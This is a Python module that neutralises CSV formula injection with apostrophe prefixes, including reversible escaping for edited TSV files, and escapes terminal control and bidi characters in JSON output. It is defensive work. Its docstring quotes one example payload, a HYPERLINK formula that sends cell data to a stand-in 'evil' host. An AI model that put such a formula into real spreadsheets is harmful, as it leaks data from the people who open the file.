"""CSV cells that a spreadsheet will not run, and JSON that a terminal will not obey.

**Formulas.** A spreadsheet that opens a CSV file runs a cell starting with ``=``, ``+``,
``-`` or ``@`` (and, in some, a tab or carriage return) as a formula: a label such as
``=HYPERLINK("http://evil/?"&A1)`` leaks data or runs commands when an analyst opens the
export. :func:`defuse` prefixes such a cell with an apostrophe, as OWASP advises ("CSV
injection"); spreadsheets show the text without it. A cell that is a plain number
(``-7.2``, ``+3``, ``1e-5``) is left as it is when the column holds numbers, so numeric
columns stay numeric. Every CSV ``kg`` writes goes through it (``kg query --format csv``,
``kg export --format events-csv``).

**Files read back.** A file that ``kg`` writes and then reads again (the link proposals
TSV a reviewer edits) must give back every cell exactly: :func:`defuse_reversibly` prefixes
an apostrophe to a formula cell and to a cell that already starts with apostrophes before a
formula character, and :func:`undefuse` removes that one apostrophe on reading, so any text
round-trips.

**Terminals.** :func:`json_escape_controls` rewrites a JSON document so that control,
bidi-override and invisible characters (C0/C1, DEL, U+200B..U+200F, U+202A..U+202E,
U+2066..U+2069, line/paragraph separators...) are ``\\uXXXX`` escapes: the same JSON value,
but nothing in it can move a terminal's cursor, retitle the window or reorder the text.
"""

from __future__ import annotations

import re
import unicodedata

__all__ = ["defuse", "defuse_reversibly", "undefuse", "is_number", "json_escape_controls",
           "TRIGGERS"]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_UNSAFE = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})


def is_number(text: str) -> bool:
    """True for a plain decimal number (``-7.2``, ``+3``, ``1e-5``)."""
    return bool(_NUMBER.fullmatch(text))


def defuse(cell: str, *, numeric: bool = False) -> str:
    """``cell`` with a leading apostrophe if a spreadsheet would take it as a formula.

    With ``numeric`` (a column of numbers), a cell that is a plain number stays as it is.

    >>> defuse("=1+1"), defuse("-7.2"), defuse("-7.2", numeric=True), defuse("North Korea")
    ("'=1+1", "'-7.2", '-7.2', 'North Korea')
    """
    if not cell.startswith(TRIGGERS) or (numeric and is_number(cell)):
        return cell
    return "'" + cell


def _escaped(cell: str) -> bool:
    """True for apostrophes (one or more) followed by a formula character."""
    rest = cell.lstrip("'")
    return rest != cell and rest.startswith(TRIGGERS)


def defuse_reversibly(cell: str, *, numeric: bool = False) -> str:
    """Like :func:`defuse`, and :func:`undefuse` gives ``cell`` back whatever it holds.

    >>> defuse_reversibly("=1+1"), defuse_reversibly("'=1+1"), defuse_reversibly("it's")
    ("'=1+1", "''=1+1", "it's")
    >>> all(undefuse(defuse_reversibly(c)) == c for c in ("=1", "'=1", "''@x", "'a", "-2"))
    True
    """
    if (cell.startswith(TRIGGERS) and not (numeric and is_number(cell))) or _escaped(cell):
        return "'" + cell
    return cell


def undefuse(cell: str) -> str:
    """A cell written by :func:`defuse_reversibly` as it was before."""
    return cell[1:] if _escaped(cell) else cell


def _escape(c: str) -> str:
    n = ord(c)
    if n < 0x10000:
        return f"\\u{n:04x}"
    n -= 0x10000
    return f"\\u{0xD800 + (n >> 10):04x}\\u{0xDC00 + (n & 0x3FF):04x}"


def json_escape_controls(text: str) -> str:
    """JSON text with every control/format/separator character as a ``\\uXXXX`` escape.

    Such characters can only stand inside JSON strings (``json.dumps`` already escapes
    C0 controls), so the result parses to the same value.
    """
    if text.isprintable() or all(c == "\n" or unicodedata.category(c) not in _UNSAFE
                                 for c in text):
        return text
    return "".join(_escape(c) if c != "\n" and unicodedata.category(c) in _UNSAFE else c
                   for c in text)
